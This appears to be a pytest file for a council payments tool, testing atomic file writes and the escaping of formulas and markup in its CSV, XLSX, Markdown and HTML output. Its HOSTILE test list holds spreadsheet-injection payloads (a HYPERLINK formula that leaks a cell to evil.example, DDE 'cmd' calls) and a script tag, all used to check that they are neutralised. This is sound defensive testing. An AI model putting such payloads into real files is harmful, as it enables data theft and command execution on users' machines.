"""Safe writing: nothing at a path is destroyed, and no writer lets a formula or markup through."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import pbr
from pbr._rows import result_lists
from pbr.cli import main
from pbr.output import (
    RESULT_COLUMNS,
    CsvWriter,
    OutputError,
    _pounds,
    atomic_writer,
    check_writable,
    decision_text,
    markdown_text,
    neutralise,
    neutralised,
    restore,
    result_rows,
    table_text,
    write_decisions,
)
from pbr.testing import PROGRAMMES, as_of_dates, families

from .builders import generated, record

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def temp_files(folder: Path) -> list[Path]:
    return [p for p in folder.iterdir() if p.name.endswith(".pbr-tmp")]


def test_a_regular_file_is_replaced_keeping_its_mode(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    target.chmod(0o640)
    inode = target.stat().st_ino
    with atomic_writer(target) as handle:
        handle.write("new\n")
    assert target.read_text() == "new\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert target.stat().st_ino != inode  # replaced, not rewritten in place
    assert temp_files(tmp_path) == []


def test_a_new_file_follows_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        with atomic_writer(tmp_path / "new.txt") as handle:
            handle.write("x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o640  # not 0600


def test_a_symlink_is_refused_and_what_it_points_to_kept(tmp_path: Path) -> None:
    """Writing through a link replaced the file it pointed to (anyone's); a forecast refused it."""
    from pbr.output import OutputError, check_writable

    (tmp_path / "real.txt").write_text("old")
    link = tmp_path / "link.txt"
    link.symlink_to("real.txt")
    dangling = tmp_path / "dangling.txt"
    dangling.symlink_to("made-now.txt")
    for path in (link, dangling):
        for check in (check_writable, lambda p: atomic_writer(p).__enter__()):
            with pytest.raises(
                OutputError, match=r"will not write through .*: it is a symbolic link"
            ):
                check(path)
        assert path.is_symlink()
    assert (tmp_path / "real.txt").read_text() == "old"
    assert not (tmp_path / "made-now.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling.txt", "link.txt", "real.txt"]
    via = tmp_path / "via"  # a link among the folders is followed: only the file is refused
    via.symlink_to(tmp_path)
    with atomic_writer(via / "real.txt") as handle:
        handle.write("new")
    assert (tmp_path / "real.txt").read_text() == "new"


def test_a_fifo_is_written_directly(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[str] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
    reader.start()
    with atomic_writer(fifo) as handle:
        handle.write("through the pipe\n")
    reader.join(10)
    assert got == ["through the pipe\n"]
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert temp_files(tmp_path) == []


def test_a_device_node_is_written_and_kept(tmp_path: Path) -> None:
    null = tmp_path / "null"
    try:
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
    except (PermissionError, OSError):
        pytest.skip("making a device node needs root")
    write_decisions([], null, "csv")
    assert stat.S_ISCHR(null.stat().st_mode)  # still the device, not a regular file
    assert temp_files(tmp_path) == []


def test_dev_full_is_a_clear_error() -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    with (
        pytest.raises(OutputError, match="cannot write /dev/full: No space left on device"),
        atomic_writer("/dev/full") as handle,
    ):
        handle.write("x" * 100_000)


def test_dash_is_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
    with atomic_writer("-") as handle:
        handle.write("to stdout\n")
    assert capsys.readouterr().out == "to stdout\n"


def test_a_folder_or_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="it is a folder"), atomic_writer(tmp_path):
        pass
    with pytest.raises(OutputError, match="does not exist"), atomic_writer(tmp_path / "x" / "y"):
        pass
    assert list(tmp_path.iterdir()) == []


def test_a_file_where_a_folder_should_be_is_said_to_be_a_file(tmp_path: Path) -> None:
    """``--output s.jsonl/x.jsonl``, s.jsonl a file, said "folder .../s.jsonl does not exist"."""
    file = tmp_path / "s.jsonl"
    file.write_text("kept\n")
    said = f"{file} is a file, not a folder"
    for inside in (file / "x.jsonl", file / "a" / "x.jsonl"):
        with pytest.raises(OutputError, match=re.escape(said)), atomic_writer(inside):
            pass
        with pytest.raises(OutputError, match=re.escape(said)):
            check_writable(inside)
    assert file.read_text() == "kept\n"


def test_cli_output_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    families = str(Path(__file__).resolve().parents[1] / "examples" / "families.jsonl")
    for target, why in ((tmp_path, "it is a folder"), (tmp_path / "x" / "y.csv", "not exist")):
        status = main(["evaluate", families, "--as-of", "2015-03-31", "--output", str(target)])
        err = capsys.readouterr().err
        assert status == 2
        assert err.startswith(f"pbr: cannot write {target}: ")
        assert why in err
        assert "Traceback" not in err


def test_a_failure_inside_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("old")

    def fail() -> None:
        with atomic_writer(target) as handle:
            handle.write("half")
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        fail()
    assert target.read_text() == "old"
    assert temp_files(tmp_path) == []


def test_disk_full_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.txt"
    target.write_text("old")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputError, match="No space left on device"), atomic_writer(target) as out:
        out.write("new")
    assert target.read_text() == "old"
    assert temp_files(tmp_path) == []


def test_disk_full_on_a_real_small_filesystem(tmp_path: Path) -> None:
    mount = tmp_path / "small"
    mount.mkdir()
    if (
        os.geteuid() != 0
        or subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True
        ).returncode
    ):
        pytest.skip("mounting a small tmpfs needs root")
    try:
        target = mount / "out.bin"
        target.write_bytes(b"old")
        with (
            pytest.raises(OutputError, match="No space left on device"),
            atomic_writer(target, "wb") as handle,
        ):
            handle.write(b"x" * 200_000)
        assert target.read_bytes() == b"old"
        assert temp_files(mount) == []
    finally:
        subprocess.run(["umount", str(mount)], check=True)


WRITER = """
import sys, time
from pbr.output import atomic_writer
with atomic_writer(sys.argv[1]) as handle:
    handle.write("half written")
    handle.flush()
    print("writing", flush=True)
    time.sleep(60)
"""


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL])
def test_an_interrupted_write_leaves_the_old_file(tmp_path: Path, sig: int) -> None:
    target = tmp_path / "out.txt"
    target.write_text("old")
    child = subprocess.Popen(
        [sys.executable, "-c", WRITER, str(target)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    assert child.stdout.readline() == "writing\n"
    assert len(temp_files(tmp_path)) == 1  # the new file is being written beside the old
    child.send_signal(sig)
    child.communicate(timeout=30)
    assert target.read_text() == "old"
    if sig != signal.SIGKILL:
        assert temp_files(tmp_path) == []  # removed on the way out
        assert child.returncode != 0
    else:  # nothing runs after SIGKILL: the next write to the same path removes it
        with atomic_writer(target) as handle:
            handle.write("new")
        assert temp_files(tmp_path) == []
        assert target.read_text() == "new"


def long_name(folder: Path, length: int, start: str = "a") -> Path:
    """A path in `folder` whose name is `length` characters, or a skip if the folder refuses it."""
    if os.pathconf(folder, "PC_NAME_MAX") < length:
        pytest.skip(f"this file system takes no {length}-character name")
    return folder / (start * (length - 6) + ".jsonl")


@pytest.mark.parametrize("length", [250, 255])
def test_a_name_as_long_as_the_folder_takes_is_written(tmp_path: Path, length: int) -> None:
    """A valid 246-character name was refused "File name too long": the temporary one is longer."""
    target = long_name(tmp_path, length)
    target.write_text("old")
    with atomic_writer(target) as handle:
        handle.write("new")
        (made,) = temp_files(tmp_path)
        assert len(os.fsencode(made.name)) <= 255
    assert target.read_text() == "new"
    assert temp_files(tmp_path) == []


def test_a_long_name_s_temporary_files_are_told_apart_and_swept(tmp_path: Path) -> None:
    """Two long names alike but for their end get temporary names of their own; a killed
    writer's is removed by the next write to its path, and only its."""
    first, second = long_name(tmp_path, 250), tmp_path / ("a" * 243 + "b.jsonl")
    for target in (first, second):
        target.write_text("old")
        child = subprocess.Popen(
            [sys.executable, "-c", WRITER, str(target)], stdout=subprocess.PIPE, text=True
        )
        assert child.stdout is not None
        assert child.stdout.readline() == "writing\n"
        child.kill()
        child.communicate(timeout=30)
    assert len({p.name for p in temp_files(tmp_path)}) == 2
    with atomic_writer(first) as handle:
        handle.write("new")
    (left,) = temp_files(tmp_path)  # the second's, whose path was not written again
    with atomic_writer(second) as handle:
        handle.write("new")
    assert temp_files(tmp_path) == []
    assert left.name != first.name


def test_a_live_writers_temporary_file_is_not_swept(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    with atomic_writer(target) as outer:
        outer.write("outer")
        with atomic_writer(target) as inner:  # same process: its temporary file is alive
            inner.write("inner")
        assert len(temp_files(tmp_path)) == 1
    assert target.read_text() == "outer"


def good_then_bad(folder: Path) -> Path:
    """1,000 generated families (5.5 MB: two workers' slices), then 3,000 records rejected.

    The rejections come after the first range of the file, so `pbr evaluate --output` has
    begun its file before it reports one; their lines fill a standard error nobody reads.
    """
    path = generated(1000, folder)
    with path.open("a", encoding="utf-8") as handle:
        handle.writelines(f'{{"family_id": "BAD-{n}"}}\n' for n in range(3000))
    return path


def wait_for(ready: Callable[[], bool], child: subprocess.Popen[bytes]) -> None:
    """Wait until `ready()`, failing if `child` ends first or a minute goes by."""
    deadline = time.monotonic() + 60
    while not ready():
        assert child.poll() is None, f"the run ended first (exit {child.returncode})"
        assert time.monotonic() < deadline, "the run never got there"
        time.sleep(0.01)


def stoppable(sig: int) -> int:
    """`sig`, or a skip if this process ignores it (a child would ignore it too)."""
    if signal.getsignal(sig) == signal.SIG_IGN:
        pytest.skip(f"{signal.Signals(sig).name} is ignored here")
    return sig


@pytest.mark.parametrize(
    ("sig", "workers"), [(signal.SIGTERM, "1"), (signal.SIGTERM, "2"), (signal.SIGHUP, "1")]
)
def test_a_stop_signal_leaves_the_output_and_the_rejections_as_they_were(
    tmp_path: Path, sig: int, workers: str
) -> None:
    """SIGTERM with both files replaced the rejections with a partial file (the decisions'
    writer swallowed the stop, so the rejections' committed) and left the decisions' temporary."""
    source = good_then_bad(tmp_path)
    output, rejections = tmp_path / "out.jsonl", tmp_path / "rejections.jsonl"
    for path in (output, rejections):
        path.write_text("OLD\n")
    child = subprocess.Popen(
        [sys.executable, "-m", "pbr.cli", "evaluate", str(source), "--as-of", "2015-03-31",
         "--format", "json", "--workers", workers, "--output", str(output),
         "--rejections", str(rejections)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    wait_for(lambda: len(temp_files(tmp_path)) == 2, child)  # both begun, the run waiting
    child.send_signal(stoppable(sig))
    _, err = child.communicate(timeout=60)
    assert child.returncode == 128 + sig, err.decode()[-2000:]
    assert output.read_text() == "OLD\n"
    assert rejections.read_text() == "OLD\n"
    assert temp_files(tmp_path) == []


def test_a_stop_the_moment_the_temporary_file_is_made_removes_it(tmp_path: Path) -> None:
    """A stop between making the file and noting its name left it behind (seen under load)."""
    target = tmp_path / "out.txt"
    target.write_text("OLD")
    script = (
        "import os, signal, sys\n"
        "from pbr.output import atomic_writer\n"
        "made = os.open\n"
        "def stopped_as_made(path, *args):\n"
        "    fd = made(path, *args)\n"
        "    if str(path).endswith('.pbr-tmp'):\n"
        "        os.kill(os.getpid(), signal.SIGTERM)\n"
        "    return fd\n"
        "os.open = stopped_as_made\n"
        "with atomic_writer(sys.argv[1]) as handle:\n"
        "    handle.write('new')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(target)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 128 + signal.SIGTERM, done.stderr
    assert target.read_text() == "OLD"
    assert temp_files(tmp_path) == []


def test_no_nested_writer_commits_once_the_stop_has_come(tmp_path: Path) -> None:
    """However the stop reaches the writers, the outer one does not replace its file after it."""
    outer_path, inner_path = tmp_path / "outer.txt", tmp_path / "inner.txt"
    for path in (outer_path, inner_path):
        path.write_text("OLD")
    script = (
        "import os, signal, sys\n"
        "from pbr.output import atomic_writer\n"
        "with atomic_writer(sys.argv[1]) as outer:\n"
        "    outer.write('new')\n"
        "    try:\n"
        "        with atomic_writer(sys.argv[2]) as inner:\n"
        "            inner.write('new')\n"
        "            os.kill(os.getpid(), signal.SIGTERM)\n"
        "    except BaseException:\n"
        "        pass  # a caller that swallows the stop\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(outer_path), str(inner_path)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 128 + signal.SIGTERM, done.stderr
    assert (outer_path.read_text(), inner_path.read_text()) == ("OLD", "OLD")
    assert temp_files(tmp_path) == []


# --- formulas and markup ------------------------------------------------------------------------


@given(st.text())
def test_neutralise_is_safe_and_reversible(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    if safe.lstrip(" ").startswith(TRIGGERS):
        assert safe.lstrip("+-").replace(".", "", 1).isdigit()  # only a plain number


@given(st.text())
@example("C-1\u2028Crime/ASB/education: MET")
@example("a\u2029b\x85c\x0bd")
def test_markdown_text_is_inert(text: str) -> None:
    safe = markdown_text(text)
    assert "<" not in safe
    assert ">" not in safe
    assert "\n" not in safe
    assert len(safe.splitlines()) <= 1  # nor U+2028, U+2029 or any break splitlines knows
    unescaped = safe.replace("\\\\", "")
    for special in "|*_`[]":
        assert unescaped.count(special) == unescaped.count("\\" + special)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2-3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "<script>alert(1)</script>",
    "*bold* | [link](http://evil.example) `code`",
]


def hostile_claims(tmp_path: Path) -> Path:
    """A claim file whose claim ids are hostile, over a real family."""
    path = tmp_path / "claims.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["claim_id", "family_id", "kind", "amount", "claimed_on", "window"])
        for i, claim_id in enumerate(HOSTILE):
            writer.writerow([claim_id, "T1", "attachment_fee", "3200.00", "2012-11-01", claim_id])
            writer.writerow([f"{claim_id}#{i}", "-1-1", "bonus", "1", "2012-11-01", ""])
    return path


def assert_no_formula(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not cell.lstrip(" ").startswith(TRIGGERS), (where, cell)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def test_a_shared_xlsx_text_cell_escapes_what_openpyxl_refuses(tmp_path: Path) -> None:
    """`typed_cell` (evaluate's and forecast's XLSX) passed a control character to openpyxl."""
    pytest.importorskip("openpyxl")
    from openpyxl import Workbook, load_workbook
    from openpyxl.cell import WriteOnlyCell

    from pbr._xlsx import saved, typed_cell

    texts = ["C\x1b[31mRED", "=1+1\x07", "bad\udc96", "tab\there\nand line"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append([typed_cell(WriteOnlyCell, sheet, text) for text in texts])
    (tmp_path / "t.xlsx").write_bytes(saved(book))
    row = next(load_workbook(tmp_path / "t.xlsx")["s"].iter_rows(values_only=True))
    # escaped as the terminal shows them; a tab or line break (which a cell holds) is kept
    assert list(row) == [r"C\x1b[31mRED", r"'=1+1\x07", r"bad\x96", "tab\there\nand line"]


def test_hostile_ids_through_every_writer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("openpyxl")
    from pbr.audit import verify, write_report
    from pbr.ledger import Entry, Ledger, LedgerError
    from pbr.tables import write_tables

    family = pbr.Family.model_validate(
        record(
            family_id="-1-1",
            local_authority="=cmd|' /C calc'!A0",
            payments=[{"kind": "attachment_fee", "amount": "3200", "claim_id": HOSTILE[0]}],
        )
    )
    decision = pbr.evaluate(family, as_of=date(2013, 7, 31))
    checked: list[str] = []

    write_decisions([decision], tmp_path / "d.csv")
    assert_no_formula(csv_cells((tmp_path / "d.csv").read_text()), "decisions csv")
    write_decisions([decision], tmp_path / "d.xlsx")
    assert_no_formula(xlsx_cells(tmp_path / "d.xlsx"), "decisions xlsx")
    (tmp_path / "f.jsonl").write_text(family.model_dump_json() + "\n")
    main(["evaluate", str(tmp_path / "f.jsonl"), "--as-of", "2013-07-31", "--format", "csv"])
    assert_no_formula(csv_cells(capsys.readouterr().out), "evaluate --format csv")
    checked += ["decisions csv", "decisions xlsx", "evaluate --format csv"]

    write_tables([family], tmp_path / "tables")
    for table in (tmp_path / "tables").glob("*.csv"):
        assert_no_formula(csv_cells(table.read_text()), table.name)
    write_tables([family], tmp_path / "tables.xlsx")
    assert_no_formula(xlsx_cells(tmp_path / "tables.xlsx"), "tables xlsx")
    checked += ["tables csv", "tables xlsx"]

    result = verify(hostile_claims(tmp_path), [family.model_copy(update={"family_id": "T1"})])
    expected = [h for h in HOSTILE if h == h.strip()]  # a spaced cell is a malformed row
    assert len(result.checks) == len(expected)
    # a value holding a line break ("\r=1+1", quoted by the writer) runs over lines: each of
    # its lines is a malformed row of its own (3 for the claim and its window, 2 for the other)
    broken = sum(2 * h.count("\r") + h.count("\r") for h in HOSTILE)
    assert len(result.rejections) == 2 * len(HOSTILE) - len(expected) + broken
    for suffix in (".csv", ".xlsx", ".md", ".html"):
        path = write_report(result, tmp_path / f"audit{suffix}")
        if suffix == ".csv":
            assert_no_formula(csv_cells(path.read_text()), "audit csv")
            back = [r["claim_id"] for r in csv.DictReader(io.StringIO(path.read_text()))]
            assert [restore(c) for c in back[: len(expected)]] == expected  # nothing lost
        elif suffix == ".xlsx":
            assert_no_formula(xlsx_cells(path), "audit xlsx")
        else:
            text = path.read_text()
            assert "<script>" not in text
            assert "&lt;script&gt;" in text
            if suffix == ".md":
                assert "[link](http" not in text
                for line in text.splitlines():
                    if line.startswith("| "):
                        assert_no_formula([c.strip() for c in line.split(" | ")], "audit md")
        checked.append(f"audit {suffix}")

    ledger = Ledger(tmp_path / "l.db")
    printable = [h for h in HOSTILE if h.isprintable()]  # a tab or CR: refused at every write
    for claim_id in sorted(set(HOSTILE) - set(printable)):
        with pytest.raises(LedgerError, match="control character"):
            ledger.append(
                [Entry("T1", "attachment_fee", Decimal(1), date(2013, 1, 1), claim_id, "v")]
            )
    ledger.append(
        Entry("T1", "attachment_fee", Decimal(1), date(2013, 1, 1), claim_id, "v")
        for claim_id in printable
    )
    ledger.export_csv(tmp_path / "ledger.csv")
    assert_no_formula(csv_cells((tmp_path / "ledger.csv").read_text()), "ledger export")
    copy = Ledger(tmp_path / "copy.db")
    copy.import_csv(tmp_path / "ledger.csv")
    assert [e.claim_id for _, e in copy.entries()] == printable  # the round trip is exact
    checked.append("ledger export")
    assert len(checked) == 10


# --- pbr template -------------------------------------------------------------------------------


def test_template_never_truncates_a_table_with_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "tables"
    folder.mkdir()
    (folder / "families.csv").write_text("family_id,attached_on\nF1,2013-01-01\n")
    (folder / "members.csv").write_text("family_id,person_id\n")  # a header only: rewritten
    (folder / "README.md").write_text("# Our own notes\n")
    status = main(["template", str(folder)])
    out, err = capsys.readouterr()
    assert status == 0
    assert (folder / "families.csv").read_text() == "family_id,attached_on\nF1,2013-01-01\n"
    assert (folder / "README.md").read_text() == "# Our own notes\n"
    assert (folder / "members.csv").read_text().startswith("family_id,person_id,date_of_birth")
    assert f"kept {folder / 'families.csv'}: it already has rows" in err
    assert str(folder / "families.csv") not in out
    assert str(folder / "members.csv") in out
    main(["template", str(folder)])  # twice is harmless
    assert (folder / "families.csv").read_text() == "family_id,attached_on\nF1,2013-01-01\n"


def test_template_beside_a_readme_of_ones_own_writes_the_guide_under_another_name_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A council's README.md was kept silently: no column guide, and nothing said why."""
    folder = tmp_path / "tables"
    folder.mkdir()
    (folder / "README.md").write_text("# Our own notes\n")
    assert main(["template", str(folder)]) == 0
    out, err = capsys.readouterr()
    assert (folder / "README.md").read_text() == "# Our own notes\n"
    guide = folder / "pbr-tables.md"
    assert guide.read_text().startswith("# Family record tables")
    assert str(guide) in out.splitlines()
    assert f"kept {folder / 'README.md'}: pbr did not write it" in err
    assert "(the column guide is written to pbr-tables.md)" in err
    assert main(["template", str(folder)]) == 0  # its own guide is rewritten, never doubled
    assert sorted(p.name for p in folder.glob("*.md")) == ["README.md", "pbr-tables.md"]


def test_a_slow_reader_of_a_fifo_gets_everything(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []

    def read() -> None:
        time.sleep(0.2)
        got.append(fifo.read_bytes())

    reader = threading.Thread(target=read)
    reader.start()
    with atomic_writer(fifo, "wb") as handle:
        handle.write(b"x" * 300_000)
    reader.join(10)
    assert got == [b"x" * 300_000]


# --- the batch's CSV text, built as lists ------------------------------------------------------


def _neutralise_as_written_first(text: str) -> str:
    """`neutralise` as first written, without its fast path: the oracle for it."""
    if text.startswith("'"):
        return "'" + text
    if text.lstrip(" ").startswith(TRIGGERS) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text):
        return "'" + text
    return text


@given(st.text())
def test_neutralise_s_fast_path_changes_nothing(text: str) -> None:
    assert neutralise(text) == _neutralise_as_written_first(text)


def _csv_by_the_writer(decision: pbr.Decision) -> str:
    """The rows as `CsvWriter` writes them (dicts through the csv module): the oracle."""
    buffer = io.StringIO()
    CsvWriter(buffer, RESULT_COLUMNS).writerows(result_rows(decision))
    return buffer.getvalue()


@pytest.mark.parametrize("render", ["csv", "csv-file"])
@pytest.mark.parametrize(
    "council", [None, "Leeds", *HOSTILE, "a\rb", "'quoted", "line\nbreak", ' "q" ', "＝1"]
)
def test_the_batch_s_csv_text_is_the_csv_writers(council: str | None, render: str) -> None:
    family = pbr.Family.model_validate(record(family_id="F-1"))
    # any name: a record refuses control characters, a decision built in Python may hold them
    decision = pbr.evaluate(family, as_of=date(2013, 6, 30)).model_copy(
        update={"local_authority": council}
    )
    assert decision_text(decision, render) == _csv_by_the_writer(decision)
    # reads back to the rows, a carriage return included (the terminal's CSV split such a row
    # until December 2026: it was not quoted there)
    back = csv.reader(io.StringIO(decision_text(decision, render)))
    assert [dict(zip(RESULT_COLUMNS, r, strict=True)) for r in back] == [
        neutralised(row) for row in result_rows(decision)
    ]


def test_a_council_name_with_a_carriage_return_is_refused_not_split(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "families.jsonl"
    path.write_text(json.dumps(record(local_authority="North\rshire")) + "\n")
    assert main(["evaluate", str(path), "--as-of", "2013-06-30", "--format", "csv"]) == 2
    captured = capsys.readouterr()
    assert list(csv.reader(io.StringIO(captured.out))) == [list(RESULT_COLUMNS)]
    assert "local_authority" in captured.err
    assert "U+000D, at character 6" in captured.err


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.sampled_from(["a", "1", ",", '"', "\r", "\n", " ", "'", "=", "é"]))
        | st.text(max_size=5),
        min_size=2,
        max_size=2,
    )
)
def test_a_decisions_csv_is_what_the_csv_writer_writes(texts: list[str]) -> None:
    """`decision_text`'s rows (joined as they are, when nothing needs quoting) are the writer's."""
    from pbr._rows import csv_lines

    decision = pbr.evaluate(pbr.Family.model_validate(record()), as_of=date(2013, 6, 30))
    decision = decision.model_copy(update={"family_id": texts[0], "local_authority": texts[1]})
    out = io.StringIO()
    writer = CsvWriter(out)
    for values in result_lists(decision, True):
        writer.write_neutralised(values)
    assert decision_text(decision, "csv") == out.getvalue()
    plain = csv_lines(decision)
    assert plain is None or plain == out.getvalue()
    if not any(c in t for t in texts for c in ',"\r\n'):
        assert plain is not None  # the usual decision takes the short way


def test_a_large_output_is_synced_as_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pbr import output

    synced: list[int] = []
    real = getattr(os, "fdatasync", os.fsync)
    monkeypatch.setattr(output, "_SYNC_EVERY", 0.01)

    def counted(fd: int) -> None:
        synced.append(fd)
        real(fd)

    monkeypatch.setattr(os, "fdatasync", counted, raising=False)
    target = tmp_path / "decisions.jsonl"
    with output.atomic_writer(target, sync_as_it_goes=True) as handle:
        handle.write("one\n")
        time.sleep(0.2)
        assert synced  # while the block runs
        handle.write("two\n")
    assert target.read_text() == "one\ntwo\n"
    before = len(synced)
    with output.atomic_writer(target) as handle:  # not asked: no thread, no sync as it goes
        handle.write("three\n")
        time.sleep(0.1)
    assert len(synced) == before
    assert [t.name for t in threading.enumerate() if t.name == "pbr-sync"] == []


def test_an_error_met_while_syncing_fails_the_write_and_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An I/O error is told once by the system: the background sync must not swallow it."""
    from pbr import output

    def failing(fd: int) -> None:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(output, "_SYNC_EVERY", 0.01)
    monkeypatch.setattr(os, "fdatasync", failing, raising=False)
    monkeypatch.setattr(os, "fsync", lambda fd: None)  # the final sync would not tell again
    target = tmp_path / "decisions.jsonl"
    target.write_text("old\n")

    def write() -> None:
        with output.atomic_writer(target, sync_as_it_goes=True) as handle:
            handle.write("new\n")
            time.sleep(0.2)

    with pytest.raises(output.OutputError, match="Input/output error"):
        write()
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["decisions.jsonl"]


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([None, *PROGRAMMES]).flatmap(lambda p: families(p, max_events=6)),
    as_of_dates(),
    st.sampled_from(["F1", "=1+1", "-A1", "@x", "'q", "  +x", "A,B"]),
)
def test_the_csv_neutralises_as_if_every_cell_were_passed(
    family: pbr.Family, as_of: date, family_id: str
) -> None:
    """The long CSV neutralises only the texts a record or rule set wrote: the rows are those
    of every cell passed through `neutralise`, and money is written with two places."""
    try:
        decision = pbr.evaluate(family, as_of=as_of)
    except pbr.PbrError:
        return
    decision = decision.model_copy(update={"family_id": family_id, "local_authority": family_id})
    rows = result_lists(decision, True)
    assert rows == [[neutralise(value) for value in row] for row in result_lists(decision, False)]
    for row in result_lists(decision, False):
        for column in ("attachment_fee", "amount", "rate", "payable", "paid_to_date"):
            value = row[RESULT_COLUMNS.index(column)]
            assert value == f"{Decimal(value):.2f}"


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        (Decimal("3200.00"), "3200.00"),
        (Decimal("3200"), "3200.00"),
        (Decimal("0"), "0.00"),
        (Decimal("1E+3"), "1000.00"),
        (Decimal("-0.00"), "-0.00"),
        (Decimal("12.5"), "12.50"),
    ],
)
def test_money_in_the_csv_has_two_places(amount: Decimal, text: str) -> None:
    assert _pounds(amount) == text == f"{amount:.2f}"


@settings(max_examples=500, deadline=None)
@given(st.lists(st.text(), max_size=12))
def test_a_table_row_is_json_dumps_text(cells: list[str]) -> None:
    """Any cells (quotes, backslashes, control characters, £, emoji, lone surrogates)."""
    assert table_text(cells) == json.dumps(cells, ensure_ascii=False)


def test_an_output_naming_a_stream_this_process_was_given_writes_through_it(
    tmp_path: Path,
) -> None:
    """``--output /dev/stdout >> log`` replaced the log (a new file renamed over what the link
    led to), and to a pipe it could not be opened at all."""
    import shlex
    import subprocess
    import sys

    families = str(Path(__file__).resolve().parents[1] / "examples" / "families.jsonl")
    command = [sys.executable, "-m", "pbr.cli", "evaluate", families, "--as-of", "2015-03-31"]
    log = tmp_path / "log.txt"
    log.write_text("OLD LOG\n", encoding="utf-8")
    for path in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
        with log.open("a", encoding="utf-8") as appended:
            done = subprocess.run([*command, "--format", "json", "--output", path],
                                  stdout=appended, stderr=subprocess.DEVNULL, check=False)  # fmt: skip
        assert done.returncode == 0
    lines = log.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "OLD LOG"
    assert len(lines) == 1 + 3 * 60
    piped = subprocess.run([*command, "--format", "json", "--output", "/dev/stdout"],
                           capture_output=True, check=False)  # fmt: skip
    assert piped.returncode == 0, piped.stderr
    assert len(piped.stdout.splitlines()) == 60
    third = tmp_path / "third.csv"
    shell = " ".join(shlex.quote(c) for c in [*command, "--format", "csv", "--output", "/dev/fd/3"])
    done = subprocess.run(["sh", "-c", f"{shell} 3>>{shlex.quote(str(third))}"],
                          capture_output=True, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert third.read_bytes().startswith(b"family_id,")


def test_an_output_linked_into_a_folder_that_is_read_is_refused(tmp_path: Path) -> None:
    """A link in the working folder to ``tables/families.csv`` got past the check (it looked at
    the link's own folder) and the decisions replaced the council's table."""
    from pbr.output import OutputError, check_distinct

    tables = tmp_path / "tables"
    tables.mkdir()
    (tables / "families.csv").write_text("family_id\n", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(tables / "families.csv")
